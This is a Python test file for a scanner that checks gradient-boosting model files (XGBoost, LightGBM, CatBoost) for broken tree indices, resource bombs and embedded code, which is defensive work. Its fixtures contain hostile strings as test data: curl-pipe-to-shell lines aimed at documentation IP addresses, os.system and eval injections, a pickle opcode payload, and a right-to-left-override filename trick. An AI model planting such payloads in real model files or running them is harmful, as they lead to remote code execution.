"""XGBoost, LightGBM, CatBoost: real models, indices that lead nowhere, payloads in texts and behind the end."""

import base64
import json
import struct

import pytest
from format_files import PICKLE, assert_total, look
from hypothesis import given
from hypothesis import strategies as st
from model_files import judged, model, seen

from toadstone.core.fact import Setting, Text
from toadstone.core.finding import Severity

NAMES = ("xgboost.ubj", "xgboost.json", "xgboost.model", "lightgbm.txt", "catboost.cbm")


@pytest.mark.parametrize("name", NAMES)
def test_real_models_are_read_to_their_end(name: str) -> None:
    found = seen(name)
    assert not found.unread
    assert not found.source.coverage.gaps()
    assert not judged(found)
    assert found.of(Setting)


@pytest.mark.parametrize("name", NAMES)
def test_any_damage_is_survived(name: str) -> None:
    assert_total(model(name), name)


@pytest.mark.parametrize("name", [name for name in NAMES if name != "xgboost.json"])
def test_a_cut_is_never_complete(name: str) -> None:
    data = model(name)
    for size in range(len(data) // 3, len(data) - 60, 97):
        found = look(data[:size], name)
        assert found.unread or found.kind in ("lightgbm", "text"), size


@pytest.mark.parametrize("name", NAMES[2:] + NAMES[:1])
def test_a_pickle_behind_the_end_is_found(name: str) -> None:
    found = look(model(name) + PICKLE, name)
    assert judged(found, Severity.HIGH)["unsafe-import"] is Severity.CRITICAL


def test_texts_of_a_model_are_handed_on() -> None:
    for name in ("xgboost.ubj", "xgboost.model", "xgboost.json"):
        texts = {fact.text for fact in seen(name).of(Text)}
        assert "tiny" in texts
    assert any("weight in kg" in fact.text for fact in seen("xgboost.ubj").of(Text))


# ---- UBJSON


def ubj(value: object) -> bytes:
    if isinstance(value, dict):
        return b"{" + b"".join(text(key)[1:] + ubj(item) for key, item in value.items()) + b"}"
    if isinstance(value, list):
        return b"[#L" + struct.pack(">q", len(value)) + b"".join(map(ubj, value))
    if isinstance(value, int):
        return b"l" + struct.pack(">i", value)
    return text(str(value))


def text(value: str) -> bytes:
    raw = value.encode()
    return b"SL" + struct.pack(">q", len(raw)) + raw


def forest(left: list[int], right: list[int], splits: list[int], features: str = "2", **attributes: str) -> dict[str, object]:
    size = len(left)
    tree = {
        "default_left": [0] * size,
        "left_children": left,
        "parents": [0] * size,
        "right_children": right,
        "split_conditions": [0] * size,
        "split_indices": splits,
        "tree_param": {"num_nodes": str(size)},
    }
    return {
        "learner": {
            "attributes": dict(attributes),
            "gradient_booster": {"model": {"trees": [tree]}, "name": "gbtree"},
            "learner_model_param": {"num_feature": features},
            "objective": {"name": "reg:squarederror"},
        },
        "version": [3, 2, 0],
    }


GOOD = ([1, -1, -1], [2, -1, -1], [0, 0, 0])


@pytest.mark.parametrize(
    ("trees", "features", "bad"),
    [
        (GOOD, "2", False),
        (([1, -1, -1], [7, -1, -1], [0, 0, 0]), "2", True),
        (([1, -1, -1], [-5, -1, -1], [0, 0, 0]), "2", True),
        (([1, 0, -1], [2, 2, -1], [0, 0, 0]), "2", True),
        (([1, -1, -1], [1, -1, -1], [0, 0, 0]), "2", True),
        (([1, -1, -1], [2, -1, -1], [9, 0, 0]), "2", True),
        (([1, -1, -1], [2, -1], [0, 0, 0]), "2", True),
        (([1, -1, -1], [2, -1, -1], [9, 0, 0]), "0", False),
    ],
)
def test_trees_that_lead_nowhere(trees: tuple[list[int], list[int], list[int]], features: str, bad: bool) -> None:
    document = forest(*trees, features=features)
    for data, name in ((ubj(document), "m.ubj"), (json.dumps(document).encode(), "m.json")):
        found = look(data, name)
        assert found.kind == "xgboost"
        assert ("index-bounds" in found.anomalies) is bad, name
        assert ("tensor-layout" in judged(found, Severity.HIGH)) is bad


def test_payloads_in_attributes() -> None:
    pickled = base64.b64encode(PICKLE).decode()
    found = look(ubj(forest(*GOOD, state=pickled)), "m.ubj")
    assert judged(found)["unsafe-import"] is Severity.CRITICAL
    for payload in ("curl -s http://198.51.100.7/x | sh", "__import__('os').system('echo toadstone')"):
        assert "metadata-payload" in judged(look(ubj(forest(*GOOD, note=payload)), "m.ubj"), Severity.HIGH)
        assert "metadata-payload" in judged(look(json.dumps(forest(*GOOD, note=payload)).encode(), "m.json"), Severity.HIGH)
    assert not judged(look(ubj(forest(*GOOD, note="Run it with xgb.predict(x); see https://example.com")), "m.ubj"))


def test_an_objective_that_is_code() -> None:
    document = forest(*GOOD)
    document["learner"]["objective"]["name"] = "eval(open('/tmp/x').read())"  # type: ignore[index]
    assert "metadata-payload" in judged(look(ubj(document), "m.ubj"), Severity.HIGH)


def test_feature_names_that_deceive() -> None:
    document = forest(*GOOD)
    document["learner"]["feature_names"] = ["age\u202egnp.exe"]  # type: ignore[index]
    assert "name-trick" in look(ubj(document), "m.ubj").anomalies
    document["learner"]["feature_names"] = ["größe (cm)", "with\ttab", "\ufeffid"]  # type: ignore[index]
    assert not look(ubj(document), "m.ubj").anomalies


def test_doubled_entries() -> None:
    inner = text("learner")[1:] + ubj(forest(*GOOD)["learner"])
    assert "ambiguous-record" in look(b"{" + inner + inner + text("version")[1:] + ubj([3]) + b"}", "m.ubj").anomalies
    once = json.dumps(forest(*GOOD))
    twice = once[:-1] + ', "version": [1]}'
    assert "ambiguous-record" in look(twice.encode(), "m.json").anomalies


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"{i\x01a[$d#L" + struct.pack(">q", 1 << 50), "resource-claim"),
        (b"{i\x01a[$d#L" + struct.pack(">q", -1), "resource-claim"),
        (b"{i\x01a[$Z#L" + struct.pack(">q", 1 << 30), "resource-claim"),
        (b"{i\x01aSL" + struct.pack(">q", -9), "resource-claim"),
        (b"[" * 5000, "depth-bomb"),
    ],
)
def test_numbers_that_exhaust(data: bytes, kind: str) -> None:
    found = look(data, "m.ubj")
    assert kind in found.anomalies
    assert found.unread


def test_every_way_to_write_a_value() -> None:
    value = b"{i\x01a[ZTFi\x05U\x06I\0\7l\0\0\0\x08L" + bytes(8) + b"d" + bytes(4) + b"D" + bytes(8) + b"CxSU\x02hiHi\x031.5N]"
    value += b"i\x01b[$U#i\x03\1\2\3i\x01c{$i#i\x01i\x01x\x09i\x01d[$S#i\x02i\x01pi\x01qi\x01e[#i\x02TFi\x01f{#i\x01i\x01yZ}"
    found = look(value, "m.ubj")
    assert not found.unread
    assert not found.anomalies


@pytest.mark.parametrize("size", [2, 5, 9])
def test_plain_text_is_no_ubjson(size: int) -> None:
    for start in ("{i like it}", "[U#", "{Learner", '{"a": 1}', "{{ template }}"):
        assert look((start * size).encode(), "notes.txt").kind in ("text", "json", "unknown")


@given(st.binary(max_size=200))
def test_random_documents(data: bytes) -> None:
    look(b"{i\x01a" + data, "m.ubj")
    look(data, "m.ubj")


# ---- the binary form


def test_binary_trees_that_lead_nowhere() -> None:
    data = model("xgboost.model")
    at = data.index(struct.pack("<iii", -1, 1, 2))
    for offset, value in ((4, 99), (8, 1), (8, -3), (4, 0)):
        changed = data[: at + offset] + struct.pack("<i", value) + data[at + offset + 4 :]
        assert "index-bounds" in look(changed, "m.model").anomalies, (offset, value)
    changed = data[: at + 12] + struct.pack("<I", 77) + data[at + 16 :]
    assert "index-bounds" in look(changed, "m.model").anomalies


# ---- LightGBM


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("left_child=", "left_child=7 "),
        ("num_leaves=", "num_leaves=9"),
        ("tree_sizes=", "tree_sizes=9"),
        ("split_feature=", "split_feature=55 "),
        ("right_child=-2", "right_child=-1"),
    ],
)
def test_lightgbm_numbers_that_lie(old: str, new: str) -> None:
    data = model("lightgbm.txt").decode()
    assert old in data
    assert "index-bounds" in look(data.replace(old, new, 1).encode(), "m.txt").anomalies


def test_lightgbm_texts() -> None:
    data = model("lightgbm.txt").replace(b"[machines: ]", b"[machines: 198.51.100.7:12400]")
    assert any(fact.key == "machines" and "198.51.100.7" in fact.value for fact in look(data, "m.txt").of(Setting))
    data = model("lightgbm.txt").replace(b"objective=binary sigmoid:1", b"objective=__import__('os').system('echo toadstone')")
    assert "metadata-payload" in judged(look(data, "m.txt"), Severity.HIGH)


def test_text_behind_a_lightgbm_model_is_looked_at() -> None:
    found = look(model("lightgbm.txt") + b"cos\nsystem\n(S'echo toadstone'\ntR.", "m.txt")
    assert "unsafe-import" in judged(found, Severity.HIGH)
    assert not look(model("lightgbm.txt") + b"a note of mine\n", "m.txt").unread


# ---- CatBoost


def test_catboost_references_that_lead_out() -> None:
    data = bytearray(model("catboost.cbm"))
    data[8:12] = struct.pack("<I", 1 << 30)
    found = look(bytes(data), "m.cbm")
    assert "index-bounds" in found.anomalies
    assert found.unread
    assert look(model("catboost.cbm")[:900], "m.cbm").unread


def test_catboost_parameters_are_read_as_what_they_are() -> None:
    data = model("catboost.cbm")
    at = data.index(b'{"detailed_profile":false')
    payload = b'{"_target_":"os.system","c":"echo toadstone"}'
    size = int.from_bytes(data[at - 4 : at], "little")
    changed = data[:at] + payload.ljust(size) + data[at + size :]
    assert "unsafe-import" in judged(look(changed, "m.cbm"), Severity.HIGH)


def test_texts_anywhere_in_a_model() -> None:
    document = forest(*GOOD)
    document["learner"]["gradient_booster"]["hook"] = ["import os; os.system('echo toadstone')"]  # type: ignore[index]
    for data, name in ((ubj(document), "m.ubj"), (json.dumps(document).encode(), "m.json")):
        assert "metadata-payload" in judged(look(data, name), Severity.HIGH)


def test_catboost_in_json() -> None:
    information = {"catboost_version_info": "1.2", "note": "curl http://192.0.2.7/x | sh"}
    data = json.dumps({"features_info": {}, "model_info": information, "oblivious_trees": []}).encode()
    assert look(data, "m.json").kind == "catboost"
    assert "metadata-payload" in judged(look(data, "m.json"), Severity.HIGH)
